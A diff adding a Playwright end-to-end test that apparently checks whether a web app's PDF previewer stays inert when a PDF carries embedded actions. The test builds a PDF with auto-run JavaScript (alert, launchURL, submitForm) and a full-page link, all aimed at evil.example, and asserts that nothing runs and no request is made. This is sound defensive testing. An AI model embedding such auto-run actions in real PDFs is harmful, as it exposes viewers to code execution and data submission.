@@ -7,9 +7,10 @@ import { aDocx, anXlsx, leadingOut } from '@test/factories/office-file'
 import { eventually } from '@test/support/eventually'
 import { root } from '@test/support/paths'
 import { signedIn } from '@test/support/test-client'
+import { PDFDocument as PDFLib, PDFName, PDFString } from 'pdf-lib'
 import PDFDocument from 'pdfkit'
 import type { Page } from 'playwright-core'
-import { sees, stage, top } from './support'
+import { isCalm, sees, stage, top } from './support'
 
 const on = stage()
 
@@ -117,6 +118,33 @@ test('a thread that cannot be fetched is told, and starts when it is asked for a
   await page.unroute('**/pdf.worker.min.mjs')
   await top(page).getByRole('button', { name: '重试' }).click()
   await sees(page, '第 1 / 3 页')
+})
+
+test('a PDF that would run something is read: no dialog, no request, nothing of it in the page', async () => {
+  const file = await PDFLib.load(await aPaper(1))
+  const run = 'app.alert("ran"); app.launchURL("https://evil.example/js"); this.submitForm("https://evil.example/form")'
+  const script = file.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(run) })
+  const visit = file.context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://evil.example/uri') })
+  file.catalog.set(PDFName.of('OpenAction'), script)
+  file.catalog.set(PDFName.of('AA'), file.context.obj({ WC: script, DP: script }))
+  file.catalog.set(PDFName.of('Names'), file.context.obj({ JavaScript: { Names: [PDFString.of('all'), script] } }))
+  file.getPage(0).node.set(PDFName.of('AA'), file.context.obj({ O: script, C: visit }))
+  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: visit }
+  file.getPage(0).node.set(PDFName.of('Annots'), file.context.obj([link]))
+  const { page, asked } = await shown('带脚本.pdf', Buffer.from(await file.save()), {}, () => {
+    const ran = (globalThis as unknown as { ran: string[] }).ran ?? []
+    Object.assign(globalThis, { ran, app: { alert: (words: string) => ran.push(words) } })
+    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print'] as const)
+      Object.assign(globalThis, { [name]: () => ran.push(name) })
+  })
+  await sees(page, '第 1 / 1 页')
+  await top(page).locator('.textLayer').getByText('Clause number 1').waitFor()
+  await top(page).locator('.textLayer').click({ position: { x: 200, y: 300 } })
+  await isCalm(page)
+  expect(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran)).toEqual([])
+  expect(asked.filter((url) => !url.startsWith(on.app.address) && !url.startsWith('blob:'))).toEqual([])
+  expect(asked.filter((url) => /sandbox|quickjs/.test(url))).toEqual([])
+  expect(new URL(page.url()).pathname).toBe('/file/preview/preview')
 })
 
 test('what a PDF is not says so, and is saved instead', async () => {
